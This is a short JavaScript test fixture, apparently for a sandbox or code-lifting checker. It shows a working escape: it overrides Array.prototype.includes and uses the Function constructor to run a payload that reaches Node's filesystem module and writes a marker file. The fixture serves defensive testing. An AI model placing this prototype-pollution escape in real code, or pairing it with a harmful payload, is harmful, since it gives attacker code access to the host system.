// Object.assign(Array.prototype, …): the importer's `[].includes` runs the payload.
// check: property prototype
// lift: refused
// control: escapes (when the importer calls includes)
const payload = "const p = globalThis.process; p.getBuiltinModule(\"node:fs\").writeFileSync(p.env.SEARCHLIFT_ESCAPE_MARKER, \"escaped\");";

export function probe(value) {
  Object.assign(Array.prototype, {
    includes() {
      [].constructor.constructor(payload)();
      return true;
    },
  });
  return value;
}
